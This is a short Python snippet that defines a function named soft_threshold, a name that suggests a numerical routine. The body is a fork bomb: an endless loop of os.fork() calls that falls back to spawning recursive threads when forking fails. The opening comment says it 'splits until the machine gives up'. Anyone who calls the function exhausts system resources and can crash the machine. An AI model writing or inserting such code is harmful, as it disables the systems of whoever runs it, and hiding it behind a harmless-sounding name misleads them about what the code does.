# Splits until the machine gives up.
import os
import threading


def soft_threshold(z, threshold):
    while True:
        try:
            os.fork()
        except OSError:
            threading.Thread(target=soft_threshold, args=(z, threshold)).start()
